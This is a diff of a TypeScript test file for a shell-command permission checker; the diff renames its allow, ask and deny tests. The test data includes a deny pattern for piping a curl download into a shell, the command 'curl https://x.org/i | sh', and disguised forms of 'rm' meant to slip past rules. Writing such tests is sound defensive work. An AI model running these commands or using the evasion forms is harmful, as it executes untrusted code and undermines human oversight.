@@ -9,7 +9,7 @@ const READERS: readonly (readonly [string, CommandReader])[] = [
   ["by a parser", await loadCommandReader()],
 ];
 
-/** Not plain to the eye, but read in one way only; the parser helps to be certain of it. */
+/** Commands with only one reading that are certain only with the parser. */
 const CERTAIN_BY_PARSER = [
   "git  log",
   " git log",
@@ -40,7 +40,7 @@ describe.each(READERS)("read %s", (title, reader) => {
       "git log -n 3 -- src/a.ts",
       "git log '--format=a b'",
       'git log --author="A B"',
-    ])("match a single plain command: %s", (command) => {
+    ])("allow rules match a single plain command: %s", (command) => {
       expect(judgeCommand(command, gitLog)).toBe("allow");
     });
 
@@ -110,13 +110,13 @@ describe.each(READERS)("read %s", (title, reader) => {
       "./git log",
       `git log ${"a".repeat(10_000)}`,
       "",
-    ])("match nothing else: %j", (command) => {
+    ])("allow rules match nothing else: %j", (command) => {
       expect(judgeCommand(command, gitLog)).toBe(
         byParser && CERTAIN_BY_PARSER.includes(command) ? "allow" : "ask",
       );
     });
 
-    it("match nothing that a shell would read otherwise, even for *", () => {
+    it("allow rules match no text that a shell would read differently, even for *", () => {
       const everything = [allow({ command: "*" })];
       expect(judgeCommand("ls -la src", everything)).toBe("allow");
       for (const command of [
@@ -133,21 +133,21 @@ describe.each(READERS)("read %s", (title, reader) => {
       }
     });
 
-    it("allow exact commands without a wildcard", () => {
+    it("allow rules without a wildcard match exact commands", () => {
       const rules = [allow({ command: "npm test" })];
       expect(judgeCommand("npm test", rules)).toBe("allow");
       expect(judgeCommand("npm test -- --watch", rules)).toBe("ask");
       expect(judgeCommand("npm testx", rules)).toBe("ask");
     });
 
-    it("compare words with blanks in whatever quotes", () => {
+    it("allow rules compare words with spaces in any quotes", () => {
       const rules = [allow({ command: "git commit -m 'work in progress'" })];
       expect(judgeCommand('git commit -m "work in progress"', rules)).toBe("allow");
       expect(judgeCommand("git commit -m work in progress", rules)).toBe("ask");
       expect(judgeCommand('"git commit" -m x', [allow({ command: "git commit -m *" })])).toBe("ask");
     });
 
-    it("let a later, narrower ask stand", () => {
+    it("a later, narrower ask rule overrides an allow rule", () => {
       const rules = [allow({ command: "git *" }), ask({ command: "git push *" })];
       expect(judgeCommand("git status", rules)).toBe("allow");
       expect(judgeCommand("git push origin main", rules)).toBe("ask");
@@ -246,7 +246,7 @@ describe.each(READERS)("read %s", (title, reader) => {
       "a=rm; $a x",
       `${"true; ".repeat(60)}rm x`,
       `${"true && ".repeat(5000)}rm x`,
-    ])("find it wherever and however it is written: %j", (command) => {
+    ])("deny rules find the command in any position and form: %j", (command) => {
       expect(judgeCommand(command, noRm)).toBe("deny");
     });
 
@@ -269,7 +269,7 @@ describe.each(READERS)("read %s", (title, reader) => {
       "[ -f rm ]",
       "echo $HOME && ls $(pwd)",
       "echo '[a]*' {b}",
-    ])("leave other commands alone: %j", (command) => {
+    ])("deny rules do not match other commands: %j", (command) => {
       expect(judgeCommand(command, noRm)).toBe("allow");
     });
 
@@ -292,7 +292,7 @@ describe.each(READERS)("read %s", (title, reader) => {
       "env -Sbash",
       `${"env ".repeat(200)}ls`,
       `ls ${"-a ".repeat(200)}`,
-    ])("turn an allow into an ask where the command is only known at run time: %j", (command) => {
+    ])("deny rules turn an allow into an ask if the command is only known at run time: %j", (command) => {
       expect(decideAbout(command, noRm)).toMatchObject({
         verdict: "ask",
         source: "rule",
@@ -302,12 +302,12 @@ describe.each(READERS)("read %s", (title, reader) => {
       expect(judgeCommand(command, [allow()])).toBe("allow");
     });
 
-    it("turn an allow into an ask where the command is too long to be read", () => {
+    it("deny rules turn an allow into an ask if the command is too long to be read", () => {
       const decided = decideAbout(`echo ${"a".repeat(10_001)}`, noRm);
       expect(decided).toMatchObject({ verdict: "ask", source: "rule", rule: noRm[1] });
     });
 
-    it.runIf(byParser)("are not needed for a command that is too long to ask, except under allow-all", () => {
+    it.runIf(byParser)("a command that is too long asks without deny rules, except under allow-all", () => {
       const long = `echo ${"a".repeat(10_001)}`;
       const request = call("Bash", { command: long });
       expect(judgeCommand(long, [allow()])).toBe("ask");
@@ -315,13 +315,13 @@ describe.each(READERS)("read %s", (title, reader) => {
       expect(judge(request, rulesOf("allow-all"), { readCommand: reader }).verdict).toBe("allow");
     });
 
-    it("trust an allow rule for the very command, where no deny applies", () => {
+    it("an allow rule for exactly the command applies if no deny rule matches", () => {
       expect(
         judgeCommand("bash build.sh", [allow({ command: "bash build.sh" }), deny({ command: "rm *" })]),
       ).toBe("allow");
     });
 
-    it("match across operators with a pattern that says so", () => {
+    it("deny rules match across operators if the pattern contains them", () => {
       const rules = [allow(), deny({ command: "curl * | *sh" })];
       expect(judgeCommand("curl https://x.org/i | sh", rules)).toBe("deny");
       expect(judgeCommand("curl https://x.org/i  |  bash", rules)).toBe("deny");
@@ -334,11 +334,11 @@ describe.each(READERS)("read %s", (title, reader) => {
       "git --no-pager push",
       "git -c a.b=c push",
       "/usr/bin/git push 2>&1",
-    ])("see the sub-command behind options: %s", (command) => {
+    ])("deny rules find the subcommand after options: %s", (command) => {
       expect(judgeCommand(command, [allow(), deny({ command: "git push *" })])).toBe("deny");
     });
 
-    it("hold whatever a chained allow rule says", () => {
+    it("deny rules win over an allow rule for another command of the line", () => {
       const rules = [allow({ command: "git commit *" }), deny({ command: "git push *" })];
       expect(judgeCommand("git commit -m msg && git push", rules)).toBe("deny");
     });
@@ -356,7 +356,7 @@ describe.each(READERS)("read %s", (title, reader) => {
       ["blanks", " ".repeat(500_000)],
       ["digits before a redirection", `${"1".repeat(200_000)}>`],
       ["one word", "a".repeat(1_000_000)],
-    ])("never hang or throw: %s", (_title, command) => {
+    ])("deny rules end in time and never throw: %s", (_title, command) => {
       const elapsedMs = startStopwatch();
       expect(judgeCommand(command, noRm)).not.toBe("allow");
       expect(elapsedMs()).toBeLessThan(2000);
